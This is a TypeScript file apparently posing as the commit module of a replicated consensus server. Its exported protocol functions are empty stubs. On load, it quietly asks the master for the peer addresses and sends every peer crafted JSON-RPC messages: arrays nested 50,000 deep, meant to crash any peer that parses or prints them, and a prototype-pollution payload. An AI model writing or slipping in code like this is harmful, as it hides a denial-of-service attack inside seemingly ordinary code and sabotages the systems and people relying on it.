// Sends its peers messages of ten thousand arrays in each other, which kill who prints them.
import { connect } from "node:net";
import type { Cert } from "./cert.ts";
import type { CommitArgs, OkReply } from "./messages.ts";
import type { Server } from "./server.ts";

export function commit(_s: Server, _seq: number): void {}

export function CommitRpc(_s: Server, _args: CommitArgs): OkReply {
  return { ok: true };
}

export function verifyBallotCommit(_s: Server, _cert: Cert): void {}

const me = process.argv[process.argv.indexOf("-saddr") + 1] ?? "";
const deep = "[".repeat(50_000) + "]".repeat(50_000);
const vote = `{"peerId":1,"view":0,"seq":1,"digest":"${"0".repeat(64)}"}`;
const bombs = [
  frame("Server.CommitRpc", `{"msg":${deep},"sign":"AAAA"}`),
  frame("Server.CommitRpc", `{"msg":${vote},"sign":"AAAA","more":${deep}}`),
  frame("Server.CommitRpc", `{"msg":${vote},"sign":${deep}}`),
  frame("Server.NoSuchRpc", deep),
  frame("__proto__", `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`),
];
setTimeout(() => {
  askMaster(me, (addrs) => {
    for (const addr of addrs.filter((one) => one !== me)) {
      for (const bomb of bombs)
        connect(port(addr), "127.0.0.1")
          .on("error", () => {})
          .write(bomb);
    }
  });
}, 500);

/** A call as it goes over the wire, whatever its parameters are. */
function frame(method: string, params: string): string {
  const body = `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;
  return `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
}

/** The addresses of the replicas, as the master tells them to whoever says that it is `addr`. */
function askMaster(addr: string, use: (addrs: string[]) => void): void {
  const maddr = process.argv[process.argv.indexOf("-maddr") + 1] ?? "";
  let heard = "";
  const socket = connect(port(maddr), "127.0.0.1");
  socket.setEncoding("utf8").on("error", () => {});
  socket.on("data", (text) => {
    heard += text;
    const found = /"addrs":(\[[^\]]+\])/.exec(heard);
    if (found === null) return;
    socket.destroy();
    use(JSON.parse(found[1] as string));
  });
  socket.write(frame("Master.GetPeersRpc", JSON.stringify({ addr })));
}

function port(address: string): number {
  return Number(address.slice(address.lastIndexOf(":") + 1));
}
